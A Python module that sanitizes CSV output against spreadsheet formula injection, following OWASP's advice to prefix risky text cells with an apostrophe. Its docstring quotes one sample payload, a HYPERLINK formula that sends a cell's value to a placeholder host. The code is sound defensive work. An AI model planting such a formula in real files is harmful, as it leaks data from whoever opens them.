"""CSV text that a spreadsheet shows as text and never runs as a formula.

People open the CSVs in Excel or LibreOffice, which run a cell starting with `=` as a
formula (Excel also one starting with `+`, `-` or `@`, and after a tab or carriage
return), so a comment someone wrote or typed, or a file's name, such as
`=HYPERLINK("http://x/?"&A1,"y")` would run in the reader's spreadsheet ("CSV
injection"). Such a text cell gets a `'` in front, as OWASP recommends: spreadsheets
read the cell as text. Only text cells change; numbers stay numbers, and so does text
that is a plain number such as `-1`, which a spreadsheet reads as that number. The exact
text stays in the store and in the SAV, DTA, Parquet and Excel files, whose cells are
typed, so nothing there needs it.
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import IO

import pandas as pd

FORMULA_START = frozenset("=+-@")
"""What a spreadsheet takes for the start of a formula, after any leading whitespace."""
CONTROL_START = frozenset("\t\r")
"""Characters a spreadsheet may drop from the start of a cell, leaving what follows."""
PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def spreadsheet_safe(text: str) -> str:
    """`text` as a CSV cell that a spreadsheet shows and does not run.

    Text whose first character is a tab or carriage return, or whose first character
    after leading whitespace starts a formula, gets a `'` in front, unless it is a plain
    number ("-1", "+2.5").
    """
    if text[:1] in CONTROL_START or (text.lstrip()[:1] in FORMULA_START and not PLAIN_NUMBER.fullmatch(text)):
        return "'" + text
    return text


def spreadsheet_safe_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of `df` with every text cell made `spreadsheet_safe`; other cells as they are."""
    out = df.copy()
    for name in out.columns:
        column = out[name]
        if pd.api.types.is_numeric_dtype(column) or pd.api.types.is_datetime64_any_dtype(column):
            continue
        # Most columns hold no cell to change: told by the cells' first characters (taken
        # by pandas, any cell as text), they cost no call a cell (a scan's CSVs have
        # hundreds of thousands).
        firsts = column.dropna().astype(str).str[:1].unique()
        if not any(c in FORMULA_START or c in CONTROL_START or c.isspace() for c in firsts):
            continue
        out[name] = column.map(lambda v: spreadsheet_safe(v) if isinstance(v, str) else v)
    return out


def write_csv_for_people(df: pd.DataFrame, target: Path | IO[str]) -> None:
    """Write `df` as a UTF-8 CSV (no index) that is safe to open in a spreadsheet."""
    spreadsheet_safe_frame(df).to_csv(target, index=False, encoding="utf-8")
